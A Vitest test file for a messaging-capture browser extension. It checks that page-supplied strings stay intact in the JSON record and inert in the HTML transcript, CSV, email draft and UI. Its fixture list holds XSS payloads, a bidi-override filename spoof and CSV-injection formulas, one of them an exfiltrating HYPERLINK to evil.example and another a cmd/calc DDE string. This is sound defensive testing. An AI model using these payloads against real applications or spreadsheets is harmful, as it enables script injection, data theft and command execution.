// @vitest-environment happy-dom
/**
 * Hostile message content (issue #6). A page decides every string below. Each must come out
 * intact in thread.json (the canonical record) and inert wherever it is shown or written: the
 * transcript, the CSV, the email draft, the popup and the dashboard. Inert means no markup is
 * interpreted, no formula runs, no header is added, and no text around it is reordered by a
 * bidirectional control or right-to-left letters in it. The rules: docs/security.md,
 * "Hostile content".
 *
 * The checks are written from the specifications (HTML, UAX #9, RFC 4180, RFC 2047/2045), not
 * with the module's own helpers.
 */
import 'fake-indexeddb/auto';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { createHash } from 'node:crypto';
import { act } from 'preact/test-utils';
import { mount, settle, unmount } from '../helpers/preact';
import { openDb } from '../../src/db/schema';
import { ingestBatch } from '../../src/background/ingest';
import { loadThreadRows } from '../../src/background/export';
import { renderThreadFiles, type ThreadRecord } from '../../src/bundle/thread-record';
import { contentBatchSchema, LIMITS } from '../../src/shared/protocol';
import { parse } from '../../src/shared/schema';
import { emlDraft } from '../../src/forward/eml';
import { bytesToBase64, sha256Hex } from '../../src/shared/bytes';
import type { ThreadDeadline } from '../../src/background/deadlines';
import type { CaptureView, TabStatus } from '../../src/shared/protocol';
import { batch, captureRow, message, thread } from './factories';

// ---------------------------------------------------------------------------------------------
// The hostile strings

const HOSTILE: [name: string, value: string][] = [
  ['HTML and script', '<img src=x onerror="alert(1)"><script>alert(document.domain)</script>'],
  ['markup that closes ours', '</bdi></span></title></style></code><b>bold</b><!-- x'],
  ['CSS', '<style>*{display:none}</style><div style="position:fixed;inset:0">x</div>'],
  ['a javascript: link', 'javascript:alert(1)//'],
  ['entities', '&lt;script&gt; &amp; &#x3C;b&#x3E; &quot;'],
  ['an unclosed right-to-left override', 'Ana \u202Egpj.exe'],
  ['an unclosed right-to-left isolate', '\u2067עברית 12'],
  ['stray closers', '\u2069\u202C\u2069 x \u202E y'],
  ['right-to-left letters and digits, no controls', 'مرحبا 42'],
  ['embeddings nested past the UAX #9 depth limit', `${'\u202B'.repeat(130)}x${'\u2066'.repeat(130)}`],
  ['zero-width characters and a ZWJ emoji', 'A\u200Bna\u200C\u200D\u2060\uFEFF 👨‍👩‍👧'],
  ['C0 and C1 control characters', 'a\u0000b\u0001\u0007\u0008\u001B[31mred\u001B[0m\u007F\u0080\u0085\u009B\u009F\r\nz'],
  ['lone surrogates', '\uD800 x \uDFFF'],
  ['a spreadsheet formula', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['a formula after leading white space', ' \t@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['a fake CSV row', 'x","y"\r\nfake,row,=1+1'],
  ['4096 characters', '<\u202E'.repeat(2048)],
];

const BENIGN = 'Permits';
const BIDI_CONTROL = /[\u202A-\u202E\u2066-\u2069]/;
/** Letters of right-to-left scripts (Hebrew, Arabic, Syriac, Thaana, NKo, ...; presentation forms). */
const RTL_LETTERS = /[\u0590-\u08FF\uFB1D-\uFDFF\uFE70-\uFEFC]/;

/** What UTF-8 can carry: a lone surrogate becomes U+FFFD (TextEncoder does the same). */
const wellFormed = (s: string) => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
const withoutBidiControls = (s: string) => s.replace(new RegExp(BIDI_CONTROL, 'g'), '');

// ---------------------------------------------------------------------------------------------
// UAX #9 explicit levels, enough to tell whether a string can reorder text outside itself

/**
 * Rules X2–X6a and X7 of UAX #9 for one string on its own: false when it closes an isolate it
 * did not open (a PDI that would end the isolate around it) or leaves an embedding, override or
 * isolate open (which would run on into the text after it). A PDF with nothing of its own to
 * close is ignored: UAX #9 never lets a PDF close an isolate.
 */
function bidiBalanced(s: string): boolean {
  const stack: ('embedding' | 'isolate')[] = [];
  for (const ch of s) {
    if ('\u202A\u202B\u202D\u202E'.includes(ch)) stack.push('embedding');
    else if ('\u2066\u2067\u2068'.includes(ch)) stack.push('isolate');
    else if (ch === '\u202C' && stack.at(-1) === 'embedding') stack.pop();
    else if (ch === '\u2069') {
      const at = stack.lastIndexOf('isolate');
      if (at < 0) return false;
      stack.length = at;
    }
  }
  return stack.length === 0;
}

/** `s` without the parts inside top-level isolates (LRI/RLI/FSI … PDI). */
function outsideIsolates(s: string): string {
  let out = '';
  let depth = 0;
  for (const ch of s) {
    if ('\u2066\u2067\u2068'.includes(ch)) depth++;
    else if (ch === '\u2069' && depth > 0) depth--;
    else if (depth === 0) out += ch;
  }
  return out;
}

const BLOCKS = new Set(['H1', 'H2', 'P', 'DIV', 'LI', 'TD', 'TH', 'DD', 'DT', 'LABEL', 'LEGEND']);

/**
 * Every text node that holds a bidi control or right-to-left letters is kept from reordering
 * anything around it: it is the whole content of a block (a bidi paragraph of its own), or the
 * whole content of a `<bdi>` (an isolate: HTML, "the bdi element") and balanced, or
 * the controls and letters sit inside balanced FSI … PDI within the text.
 */
function expectBidiContained(root: Node): void {
  const walker = root.ownerDocument!.createTreeWalker(root, 4 /* NodeFilter.SHOW_TEXT */);
  for (let node = walker.nextNode() as Text | null; node; node = walker.nextNode() as Text | null) {
    const text = node.data;
    if (!BIDI_CONTROL.test(text) && !RTL_LETTERS.test(text)) continue;
    const parent = node.parentElement!;
    const alone = parent.childNodes.length === 1;
    const where = `${parent.tagName} ${JSON.stringify(parent.parentElement?.textContent?.slice(0, 120))}`;
    if (alone && BLOCKS.has(parent.tagName)) continue;
    if (alone && parent.tagName === 'BDI') {
      expect(bidiBalanced(text), `unbalanced bidi controls in an isolate: ${where}`).toBe(true);
      continue;
    }
    expect(bidiBalanced(text), `unbalanced bidi controls: ${where}`).toBe(true);
    const outside = outsideIsolates(text);
    expect(BIDI_CONTROL.test(outside) || RTL_LETTERS.test(outside), `bidi text not isolated from its neighbours: ${where}`).toBe(false);
  }
}

/** The markup's shape: every element with its attribute names, in document order. */
function skeleton(root: Element): string[] {
  return [root, ...root.querySelectorAll('*')].map((el) => `${el.tagName.toLowerCase()}[${el.getAttributeNames().sort().join(',')}]`);
}

// ---------------------------------------------------------------------------------------------
// A thread whose every page-decided string is `s`, preserved through the real boundary

const PNG = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 1, 2, 3]);
let dbCount = 0;

async function preserve(s: string, text = s): Promise<ThreadRecord & { files: Map<string, string> }> {
  const pngSha = await sha256Hex(PNG);
  const db = openDb(`hostile-content-${dbCount++}`);
  await db.captures.add(captureRow('c1'));
  const attachments = [
    { kind: 'image' as const, originalName: s, mediaType: s.slice(0, 255), sha256: pngSha, size: PNG.length, missingReason: null, thumbnail: false },
    { kind: 'document' as const, originalName: s, mediaType: null, sha256: null, size: null, missingReason: s, thumbnail: false },
  ];
  const payload = parse(contentBatchSchema, batch('c1', 0, [
    message(`e-${s}`.slice(0, 512), { type: 'event', sender: null, text: s, sentAt: null, sentAtText: null, pageOrder: 0 }),
    message(s.slice(0, 512), {
      sender: s, sentAtText: s, text, links: [s], pageOrder: 1, attachments,
      quote: { author: s, text: s, messageId: null },
      reactions: [{ emoji: s.slice(0, 64), count: 2 }],
    }),
  ], {
    thread: { ...thread, threadKey: s.slice(0, 1024), title: s, participants: [{ name: s, self: false }, { name: 'You', self: true }] },
    blobs: [{ sha256: pngSha, mediaType: s.slice(0, 255), base64: bytesToBase64(PNG) }],
  }));
  await ingestBatch(db, payload);
  const { files } = await renderThreadFiles(await loadThreadRows(db, `whatsapp:${s.slice(0, 1024)}`));
  db.close();
  const decoded = new Map(files.map((f) => [f.path, new TextDecoder().decode(f.bytes)]));
  return { ...(JSON.parse(decoded.get('thread.json')!) as ThreadRecord), files: decoded };
}

// ---------------------------------------------------------------------------------------------
// thread.json, transcript.html, messages.csv

/** RFC 4180 with CRLF records; fails on a bare CR, LF or quote outside a quoted field. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let cell: string;
    if (text[i] === '"') {
      // A quoted field runs to the first quote not doubled.
      cell = '';
      let from = i + 1;
      for (;;) {
        const q = text.indexOf('"', from);
        expect(q, 'unterminated quoted field').toBeGreaterThanOrEqual(0);
        cell += text.slice(from, q);
        if (text[q + 1] !== '"') {
          i = q + 1;
          break;
        }
        cell += '"';
        from = q + 2;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      expect(end, 'the last record ends with CRLF').toBeGreaterThanOrEqual(0);
      cell = text.slice(i, i + end);
      expect(cell, 'bare CR, LF or quote outside quotes').not.toMatch(/["\r\n]/);
      i += end;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else {
      expect(text.slice(i, i + 2), 'a field ends at a comma or CRLF').toBe('\r\n');
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows; // the last record ends with CRLF
    }
  }
}

/**
 * Would a spreadsheet read this cell as a formula? OWASP "CSV Injection" (and ASVS 5.0 1.2.10):
 * a first character `=`, `+`, `-`, `@`, tab, CR (ASVS adds NUL). A spreadsheet may trim
 * leading white space before it looks, so that is skipped here, as are other control and
 * invisible format characters; the fullwidth forms of the four signs count too.
 */
const FORMULA_LIKE = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u;

describe('hostile message content', () => {
  let benign: Awaited<ReturnType<typeof preserve>>;
  const benignHtml = () => new DOMParser().parseFromString(benign.files.get('transcript.html')!, 'text/html');
  beforeAll(async () => {
    benign = await preserve(BENIGN);
  });

  describe.each(HOSTILE)('%s', (_name, s) => {
    let record: Awaited<ReturnType<typeof preserve>>;
    beforeAll(async () => {
      record = await preserve(s);
    });

    it('is kept exactly in thread.json', () => {
      const [event, m] = record.messages;
      expect(record.thread.title).toBe(s);
      expect(record.thread.threadKey).toBe(s.slice(0, 1024));
      expect(record.participants[0]!.name).toBe(s);
      expect(event!.text).toBe(s);
      expect(m).toMatchObject({ id: s.slice(0, 512), sender: s, sentAtText: s, text: s, links: [s], quote: { author: s, text: s }, reactions: [{ emoji: s.slice(0, 64) }] });
      expect(m!.attachments.map((a) => [a.originalName, a.missingReason])).toEqual([[s, null], [s, s]]);
      expect(record.attachments.map((a) => [a.originalName, a.mediaType])).toEqual([[s, s.slice(0, 255)], [s, null]]);
      expect(m!.versions[0]!.text).toBe(s);
    });

    it('adds no element, attribute, script, style or link to the transcript', () => {
      const doc = new DOMParser().parseFromString(record.files.get('transcript.html')!, 'text/html');
      expect(skeleton(doc.documentElement)).toEqual(skeleton(benignHtml().documentElement));
      expect(doc.querySelectorAll('script')).toHaveLength(0);
      expect([...doc.querySelectorAll('style')].map((e) => e.textContent)).toEqual([...benignHtml().querySelectorAll('style')].map((e) => e.textContent));
      expect(doc.querySelector('meta[http-equiv]')!.getAttribute('content')).toBe(benignHtml().querySelector('meta[http-equiv]')!.getAttribute('content'));
      for (const a of doc.querySelectorAll('[href]')) expect(a.getAttribute('href')).toMatch(/^attachments\/[0-9a-f]{16}\.bin$/);
      // The message text is there as text, whole. (An HTML parser reads CR LF and CR as LF;
      // happy-dom does not, so both sides are normalised.)
      const lines = (t: string) => t.replace(/\r\n?/g, '\n');
      const text = doc.querySelector('li.msg:not(.event) div.text[dir="auto"]')!.textContent!;
      expect(lines(text)).toBe(lines(wellFormed(s)));
    });

    it('cannot reorder the transcript text around it', () => {
      const doc = new DOMParser().parseFromString(record.files.get('transcript.html')!, 'text/html');
      expectBidiContained(doc.documentElement);
      // <title> holds text only, so the title is isolated inside the text: FSI … PDI.
      expectBidiContained(doc.querySelector('title')!);
      expect(doc.title.endsWith(' – Threadkeeper transcript')).toBe(true);
    });

    it('is one CSV cell, never a formula, and the same text after the neutralising apostrophe', () => {
      const rows = parseCsv(record.files.get('messages.csv')!);
      expect(rows).toHaveLength(3);
      for (const row of rows) expect(row).toHaveLength(16);
      for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_LIKE);
      const [, event, m] = rows as [string[], string[], string[]];
      const neutral = (x: string) => (FORMULA_LIKE.test(wellFormed(x)) ? `'${wellFormed(x)}` : wellFormed(x));
      expect([event[7], m[1], m[4], m[5], m[7], m[13]]).toEqual([s, s.slice(0, 512), s, s, s, `${s.slice(0, 64)} 2`].map(neutral));
    });
  });

  it(`keeps a message of ${LIMITS.textChars} characters whole in thread.json, the transcript and the CSV`, async () => {
    const long = '<script>\u202E=1+1 '.repeat(Math.ceil(LIMITS.textChars / 14)).slice(0, LIMITS.textChars);
    expect(long).toHaveLength(LIMITS.textChars);
    const record = await preserve('Long', long);
    expect(record.messages[1]!.text).toBe(long);
    const html = record.files.get('transcript.html')!;
    expect(html).not.toContain('<script');
    expect(html).toContain(long.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'));
    const rows = parseCsv(record.files.get('messages.csv')!);
    expect(rows[2]![7]).toBe(long);
  });
});

// ---------------------------------------------------------------------------------------------
// The email draft

const BUNDLE = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5, 6, 7, 8]);
const HEADER_NAMES = ['Date', 'To', 'Subject', 'Message-ID', 'MIME-Version', 'X-Unsent', 'X-Threadkeeper-Bundle-SHA256', 'X-Threadkeeper-Key', 'Content-Type'];
/** docs/forwarding-email.md: CR LF, then every other control character, is one space; a lone surrogate is U+FFFD. */
const inert = (s: string) => wellFormed(s).replace(/\r\n/g, ' ').replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ' ');

function draft(title: string, sender: string): string {
  const bytes = emlDraft({
    to: 'records@agency.gov',
    subject: `Records: ${title}`,
    summaryLines: [`Thread: ${title}`, `From: ${sender}`],
    attachment: { fileName: 'threadkeeper-whatsapp-1a2b3c4d.zip', mediaType: 'application/zip', bytes: BUNDLE },
    date: new Date('2026-09-28T14:30:00Z'),
    messageIdDomain: 'threadkeeper.invalid',
    bundleSha256: createHash('sha256').update(BUNDLE).digest('hex'),
    keyThumbprint: 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
  });
  expect(bytes.findIndex((b) => b >= 0x80), 'a byte outside 7-bit ASCII').toBe(-1);
  return new TextDecoder('ascii').decode(bytes);
}

describe('hostile thread titles and sender names in the email draft', () => {
  it.each(HOSTILE)('%s: adds no header or part and reads back as the same text', (_name, s) => {
    const raw = draft(s, s);
    expect(raw.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const head = raw.slice(0, raw.indexOf('\r\n\r\n')).replace(/\r\n[ \t]/g, ' ');
    const fields = head.split('\r\n').map((l) => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 2)] as const);
    expect(fields.map(([n]) => n)).toEqual(HEADER_NAMES);
    // RFC 2047: the Subject is plain words or B encoded-words, with the folding white space between them dropped.
    const subject = fields.find(([n]) => n === 'Subject')![1];
    const decoded = subject.includes('=?')
      ? subject.split(' ').map((w) => new TextDecoder('utf-8', { fatal: true }).decode(Buffer.from(/^=\?utf-8\?B\?([A-Za-z0-9+/=]*)\?=$/.exec(w)![1]!, 'base64'))).join('')
      : subject;
    expect(decoded).toBe(inert(`Records: ${s}`));
    // Only our three boundary lines start with "--"; the summary (quoted-printable) has each value on its own line.
    expect(raw.split('\r\n').filter((l) => l.startsWith('--'))).toHaveLength(3);
    const boundary = raw.split('\r\n').find((l) => l.startsWith('--'))!;
    const textPart = raw.split(`${boundary}\r\n`)[1]!;
    const qp = textPart.slice(textPart.indexOf('\r\n\r\n') + 4, -2).replace(/=\r\n/g, '');
    // RFC 2045 6.7: "=XX" is a byte; decodeURIComponent decodes the bytes as UTF-8 (and throws on invalid UTF-8).
    const lines = decodeURIComponent(qp.replace(/%/g, '%25').replace(/=([0-9A-F]{2})/g, '%$1')).split('\r\n');
    expect(lines).toContain(`  ${inert(`Thread: ${s}`)}`);
    expect(lines).toContain(`  ${inert(`From: ${s}`)}`);
  });
});

// ---------------------------------------------------------------------------------------------
// The popup and the dashboard, rendered with Preact

let answer: (message: { type: string }) => unknown = () => null;
vi.mock('webextension-polyfill', () => ({
  default: {
    runtime: {
      sendMessage: async (message: { type: string }) => answer(message),
      getURL: (p: string) => `chrome-extension://x/${p}`,
    },
    tabs: {
      query: async () => [{ id: 7 }],
      getCurrent: async () => undefined,
    },
  },
}));
const { Popup } = await import('../../src/ui/popup/popup');
const { Dashboard } = await import('../../src/ui/dashboard/dashboard');

function deadline(title: string, over: Partial<ThreadDeadline> = {}): ThreadDeadline {
  return { threadId: `whatsapp:${title}`, platform: 'whatsapp', title, messages: 3, notForwarded: 3, earliestDeadline: '2026-10-18T14:30:00.000Z', state: 'due', daysLeft: 5, ...over };
}

function captureView(status: CaptureView['status'], reason: string | null): CaptureView {
  return {
    captureId: 'c1', status, phase: status === 'running' ? 'scrolling' : null, threadTitle: null, threadId: null, messages: 3, events: 0,
    attachments: 0, attachmentsMissing: 0, truncated: 0, newMessages: 3, newVersions: 0, oldestSentAt: null, reachedBeginning: false, reason, selector: null,
  };
}

afterEach(async () => {
  await unmount();
  vi.unstubAllGlobals();
});

async function popupWith(title: string, reason: string): Promise<HTMLElement> {
  let progressReads = 0;
  answer = (m) => {
    switch (m.type) {
      case 'popup/status':
        return {
          kind: 'messenger', adapter: 'whatsapp', adapterName: 'WhatsApp', conversationOpen: true, thread: { threadId: `whatsapp:${title}`, title, participants: 3 },
          readError: null, stored: { messages: 3, attachments: 0 }, autoCapturing: false, canPreservePage: false, exportState: null,
        } satisfies TabStatus;
      // Running when the popup opens, then stopped before the beginning with the page's reason.
      case 'popup/progress':
        return captureView(progressReads++ === 0 ? 'running' : 'incomplete', reason);
      case 'popup/threads':
        return [deadline(title), deadline('Permits', { daysLeft: 1 })];
      default:
        return null;
    }
  };
  return mount(<Popup />);
}

async function dashboardWith(title: string): Promise<{ root: HTMLElement; confirmed: string[] }> {
  answer = (m) => {
    switch (m.type) {
      case 'popup/threads':
        return [deadline(title, { notForwarded: 0, state: 'forwarded', earliestDeadline: null, daysLeft: null }), deadline('Permits')];
      case 'popup/exports':
        return [];
      case 'popup/purge':
        return { ok: true };
      default:
        return null;
    }
  };
  const confirmed: string[] = [];
  vi.stubGlobal('confirm', (text: string) => (confirmed.push(text), true));
  const root = await mount(<Dashboard />);
  await act(async () => root.querySelector<HTMLButtonElement>('tbody tr:first-child button[aria-label^="Purge"]')!.click());
  await settle();
  return { root, confirmed };
}

describe.each(HOSTILE)('%s in the popup and the dashboard', (_name, s) => {
  it('the popup shows the thread title and the capture reason as text, isolated', async () => {
    const benignShape = skeleton(await popupWith(BENIGN, BENIGN));
    const root = await popupWith(s, s);
    expect(skeleton(root)).toEqual(benignShape);
    expect(root.querySelector('[data-testid="completeness"]')).not.toBeNull();
    expect(withoutBidiControls(root.querySelector('[data-testid="thread-title"]')!.textContent!)).toBe(withoutBidiControls(s));
    expect(withoutBidiControls(root.querySelector('[data-testid="thread-list"] li')!.textContent!)).toContain(withoutBidiControls(s));
    expect(withoutBidiControls(root.querySelector('[data-testid="completeness"]')!.textContent!)).toContain(withoutBidiControls(s));
    expectBidiContained(root);
  });

  it('the dashboard shows the title as text, and its purge question and answer keep it isolated', async () => {
    const benignShape = skeleton((await dashboardWith(BENIGN)).root);
    const { root, confirmed } = await dashboardWith(s);
    expect(skeleton(root)).toEqual(benignShape);
    expect(withoutBidiControls(root.querySelector('tbody tr td:nth-child(2)')!.textContent!)).toBe(withoutBidiControls(s));
    expect(confirmed).toHaveLength(1);
    expect(withoutBidiControls(confirmed[0]!)).toContain(`“${withoutBidiControls(s)}”`);
    expect(bidiBalanced(confirmed[0]!)).toBe(true);
    expect(outsideIsolates(confirmed[0]!)).not.toMatch(BIDI_CONTROL);
    expect(RTL_LETTERS.test(outsideIsolates(confirmed[0]!))).toBe(false);
    expect(withoutBidiControls(root.querySelector('[data-testid="dashboard-message"]')!.textContent!)).toContain(withoutBidiControls(s));
    expectBidiContained(root);
  });
});
